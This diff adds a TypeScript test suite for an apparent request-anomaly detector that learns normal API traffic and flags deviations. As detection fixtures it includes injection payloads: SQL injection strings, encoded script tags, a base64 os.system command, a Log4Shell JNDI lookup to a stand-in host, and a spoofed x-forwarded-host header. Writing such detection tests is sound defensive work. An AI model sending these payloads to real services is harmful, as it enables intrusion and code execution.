@@ -1,0 +1,269 @@
+import type { Exchange } from '@airside/domain';
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+
+import { createCallReader } from '../../call/create-call-reader.ts';
+import { INDICATORS } from '../../indicators/index.ts';
+import { exchangeOf, jsonMessage } from '../../testing/exchange.ts';
+import { createRandom } from '../../testing/random.ts';
+import { learningOf } from '../../testing/watch.ts';
+import { RequestModel } from './request-model.ts';
+
+const START = Date.UTC(2026, 10, 1);
+const NAMES = ['anna', 'ben', 'carla', 'dörte', 'emil', 'fatima', "o'neil", 'grete', 'hans', 'ines'];
+const random = createRandom(7);
+
+/** An everyday search, or an order of something. */
+function everyday(index: number, of: Partial<Exchange> = {}): Exchange {
+  const time = new Date(START + index * 1000).toISOString();
+  const client = { address: `198.51.100.${index % 50}`, userAgent: null };
+  if (index % 2 === 0) {
+    const query = `q=${encodeURIComponent(NAMES[index % NAMES.length] ?? '')}${Math.floor(random() * 1e4)}&limit=${10 * (1 + (index % 3))}&sort=asc`;
+    return exchangeOf({ time, client, path: '/search', template: '/search', query, ...of });
+  }
+  const order = { sku: `S-${Math.floor(random() * 900) + 100}`, quantity: 1 + Math.floor(random() * 9), note: NAMES[index % NAMES.length] };
+  const request = {
+    headers: [...jsonMessage(order).headers, ['x-app', `web/1.${index % 3}`] as [string, string]],
+    body: JSON.stringify(order),
+  };
+  return exchangeOf({ time, client, method: 'POST', request, requestBytes: request.body.length, ...of });
+}
+
+class Trained {
+  readonly reader = createCallReader();
+  readonly model: RequestModel;
+
+  constructor(calls = 1500, model = new RequestModel(learningOf())) {
+    this.model = model;
+    for (let index = 0; index < calls; index++) this.learn(everyday(index));
+  }
+
+  learn(exchange: Exchange): void {
+    const call = this.reader.read(exchange);
+    this.model.judge(call);
+    this.model.learn(call);
+  }
+
+  judge(exchange: Exchange) {
+    return this.model.judge(this.reader.read(exchange));
+  }
+}
+
+const trained = new Trained();
+const order = (value: unknown, of: Partial<Exchange> = {}): Exchange => {
+  const request = { headers: [...jsonMessage(value).headers, ['x-app', 'web/1.1'] as [string, string]], body: JSON.stringify(value) };
+  return exchangeOf({ time: new Date(START + 2e6).toISOString(), method: 'POST', request, requestBytes: request.body.length, ...of });
+};
+const search = (query: string, of: Partial<Exchange> = {}): Exchange =>
+  exchangeOf({ time: new Date(START + 2e6).toISOString(), path: '/search', template: '/search', query, ...of });
+const plain = { sku: 'S-417', quantity: 2, note: 'ben' };
+
+describe('honest requests', () => {
+  test('exceed a surprise about as seldom as it says', () => {
+    const surprises = Array.from({ length: 1000 }, (_, index) => trained.judge(everyday(index + 5000)).surprise);
+    expect(surprises.filter((surprise) => surprise >= 1).length).toBeLessThan(100);
+    expect(surprises.filter((surprise) => surprise >= 2).length).toBeLessThan(15);
+    expect(surprises.filter((surprise) => surprise >= 3).length).toBeLessThan(3);
+  });
+
+  test('say nothing while nothing is known', () => {
+    const young = new Trained(0);
+    expect(young.judge(search('q=anna&limit=10&sort=asc')).surprise).toBeLessThan(1);
+    young.learn(search('q=anna&limit=10&sort=asc'));
+    expect(young.judge(search('q=ben&limit=20&sort=asc')).surprise).toBeLessThan(1);
+  });
+
+  test('of an API that never had cookies are not unusual for having one', () => {
+    const headers: [string, string][] = [
+      ['content-type', 'application/json'],
+      ['x-app', 'web/1.1'],
+      ['cookie', 'basket=17'],
+    ];
+    expect(trained.judge(order(plain, { request: { headers, body: JSON.stringify(plain) } })).surprise).toBeLessThan(2);
+  });
+
+  test('to another host of many are not unusual for going there', () => {
+    const many = new Trained(0);
+    for (let host = 0; host < 60; host++) {
+      for (let index = 0; index < 20; index++) many.learn(everyday(index, { api: null, host: `h${host}.example`, template: null }));
+    }
+    expect(many.judge(search('q=anna2234&limit=10&sort=asc', { api: null, host: 'new.example', template: null })).surprise).toBeLessThan(
+      1.5,
+    );
+    expect(
+      many.judge(search("q=1' or sleep(9)#&limit=10&sort=asc", { api: null, host: 'new.example', template: null })).surprise,
+    ).toBeGreaterThan(2);
+  });
+});
+
+describe('each of these is told by its indicator, and by no other first', () => {
+  test.each<[string, Exchange, string]>([
+    ['unlikely-value', search("q=anna' union select 1,2--&limit=10&sort=asc"), 'query parameter q'],
+    ['unlikely-value', search('q=anna%253Cscript%253E1&limit=10&sort=asc'), 'query parameter q'],
+    [
+      'unlikely-value',
+      search(`q=${Buffer.from('import os; os.system("id > /tmp/x")').toString('base64')}&limit=10&sort=asc`),
+      'query parameter q',
+    ],
+    ['unlikely-value', search('q=anna1234&limit=10&sort=desc'), 'query parameter sort'],
+    ['unlikely-type', order({ ...plain, quantity: true }), 'body field quantity'],
+    ['abnormal-quantity', order({ ...plain, quantity: -90_000 }), 'body field quantity'],
+    ['unknown-parameter', order({ ...plain, isAdmin: true }), 'body field isAdmin'],
+    ['unknown-parameter', search('q=anna1234&limit=10&sort=asc&debug=1'), 'query parameter debug'],
+    ['parameter-pollution', search('q=anna1234&limit=10&sort=asc&limit=10'), 'query parameter limit'],
+    ['parameter-pollution', order(plain, { query: 'sku=S-417' }), 'query parameter sku'],
+    ['query-manipulation', search('q=anna1234&sort=asc'), 'query parameter limit'],
+    ['query-manipulation', search('sort=asc&limit=10&q=anna1234'), 'names in the query'],
+    ['body-manipulation', order({ sku: 'S-417', quantity: 2 }), 'body field note'],
+    [
+      'body-manipulation',
+      order(plain, {
+        request: {
+          headers: [
+            ['content-type', 'application/json'],
+            ['x-app', 'web/1.1'],
+          ],
+          body: '{"sku":',
+        },
+      }),
+      'body',
+    ],
+    [
+      'header-manipulation',
+      order(plain, {
+        request: {
+          headers: [
+            ['x-app', `web/1.1\${jndi:ldap://a.b/c}`],
+            ['content-type', 'application/json'],
+          ],
+          body: JSON.stringify(plain),
+        },
+      }),
+      'header x-app',
+    ],
+    [
+      'header-manipulation',
+      order(plain, {
+        request: {
+          headers: [
+            ['x-forwarded-host', 'evil.example'],
+            ['x-app', 'web/1.1'],
+            ['content-type', 'application/json'],
+          ],
+          body: JSON.stringify(plain),
+        },
+      }),
+      'header x-forwarded-host',
+    ],
+    ['oversized-request', order(plain, { requestBytes: 4_000_000 }), 'size of the body'],
+    ['unknown-operation', exchangeOf({ method: 'DELETE', path: '/orders', template: '/orders' }), 'operation'],
+  ])('%s', (id, exchange, variable) => {
+    const call = trained.reader.read(exchange);
+    const learning = learningOf();
+    const signals = INDICATORS.filter((indicator) => ALL.includes(indicator.id)).flatMap((indicator) => {
+      const detector = indicator.create(learning);
+      if (indicator.id === 'unlikely-value') detector.merge?.(saved);
+      return [{ id: indicator.id, signal: () => detector.judge(call) }];
+    });
+    const told = signals.flatMap(({ id: own, signal }) => {
+      const said = signal();
+      return said === undefined ? [] : [{ id: own, surprise: said.surprise, variable: said.evidence[0]?.variable }];
+    });
+    const [first] = told.toSorted((a, b) => b.surprise - a.surprise);
+    expect(first).toMatchObject({ id, variable });
+    expect(first?.surprise).toBeGreaterThan(1.5);
+  });
+});
+
+const saved: unknown = JSON.parse(JSON.stringify(trained.model.save()));
+const ALL = [
+  ...['unlikely-value', 'unlikely-type', 'abnormal-quantity', 'unknown-parameter', 'parameter-pollution', 'query-manipulation'],
+  ...['body-manipulation', 'header-manipulation', 'oversized-request', 'unknown-operation'],
+];
+
+test('evidence says what is usual and what was seen, and no secret', () => {
+  const [finding] = trained.judge(order({ ...plain, quantity: -90_000 })).findings;
+  expect(finding?.evidence).toMatchObject({ learned: 'numbers from 1 to 10', seen: '-90000', since: '2026-11-01T00:00:01.000Z' });
+  const secrets = new Trained(0);
+  for (let index = 0; index < 300; index++) secrets.learn(search(`pin=${1000 + index}&q=a`));
+  const findings = secrets.judge(search(`pin=hunter2'--<script>&q=a`)).findings;
+  expect(findings.length).toBeGreaterThan(0);
+  expect(JSON.stringify(findings)).not.toMatch(/hunter|script/);
+});
+
+test('what was withheld from the record is not a value', () => {
+  const model = new Trained(0);
+  for (let index = 0; index < 300; index++) model.learn(search('q=***&a=1'));
+  expect(model.judge(search('q=***&a=1')).surprise).toBe(0);
+  expect(model.judge(search("q=x'y&a=1")).surprise).toBeLessThan(1.5);
+});
+
+test('one caller among many moves what is learned by its share at most', () => {
+  const model = new Trained(600);
+  const evil = "q=x' or 1=1--&limit=10&sort=asc";
+  for (let index = 0; index < 5000; index++) {
+    model.learn(search(evil.replace('x', `x${index}`), { client: { address: '203.0.113.66', userAgent: null } }));
+    if (index % 5 === 0) model.learn(everyday(index));
+  }
+  const operation = model.model.apis.get('shop')?.operations.get('GET /search');
+  const own = operation?.callers;
+  expect(Math.max(...(own?.counts ?? []))).toBeLessThanOrEqual(33 + 0.26 * (own?.total ?? 0));
+});
+
+test('what was learned long ago is forgotten', () => {
+  const model = new Trained(1500);
+  for (let round = 0; round < 14; round++) model.model.halve();
+  expect(model.model.apis.size).toBe(0);
+  expect(model.judge(search("q=1'--&limit=10&sort=asc")).surprise).toBeLessThan(2);
+});
+
+test('what was saved is known again, and two states add up', () => {
+  const later = new Trained(0);
+  later.model.merge(saved);
+  for (const exchange of [everyday(9001), search("q=a'--&limit=10&sort=asc"), order({ ...plain, isAdmin: true })]) {
+    expect(later.judge(exchange).surprise).toBeCloseTo(trained.judge(exchange).surprise, 1);
+  }
+  later.model.merge(saved);
+  expect(later.model.apis.get('shop')?.requests).toBe(2 * (trained.model.apis.get('shop')?.requests ?? 0));
+});
+
+test.each([
+  [null],
+  [{}],
+  [{ ...(saved as object), version: 2 }],
+  [{ ...(saved as object), wide: [] }],
+  [JSON.parse(JSON.stringify(saved).replace('"requests":', '"requests":-'))],
+  [JSON.parse(JSON.stringify(saved).replaceAll('A==', '='))],
+])('a damaged state is refused', (damaged: unknown) => {
+  expect(() => new RequestModel(learningOf()).merge(damaged)).toThrow();
+});
+
+test('memory is bounded when names, operations and values explode', () => {
+  const model = new Trained(0, new RequestModel(learningOf({ mostOperations: 50 })));
+  for (let index = 0; index < 3000; index++) {
+    model.learn(search(`a${index}=${index}&b=${'x'.repeat(index % 400)}`, { template: `/t${index % 200}` }));
+  }
+  const api = model.model.apis.get('shop');
+  expect(api?.operations.size).toBe(50);
+  for (const operation of api?.operations.values() ?? []) expect(operation.query.byName.size).toBeLessThanOrEqual(200);
+  expect(model.model.values.names.size).toBeLessThanOrEqual(20_000);
+});
+
+test('surprises are numbers, whatever is sent', () => {
+  const text = fc.oneof(
+    fc.string({ unit: 'binary', maxLength: 80 }),
+    fc.double().map(String),
+    fc.constantFrom('', '***', '-', '1e999', '%00', '../..'),
+  );
+  fc.assert(
+    fc.property(text, text, fc.nat(2 ** 31), (q, name, requestBytes) => {
+      const { surprise, findings } = trained.judge(search(`q=${q}&${name}=${q}`, { requestBytes }));
+      return (
+        Number.isFinite(surprise) &&
+        surprise >= 0 &&
+        findings.every(({ evidence }) => evidence.seen.length <= 300 && evidence.surprise >= 0)
+      );
+    }),
+    { numRuns: 100 },
+  );
+});
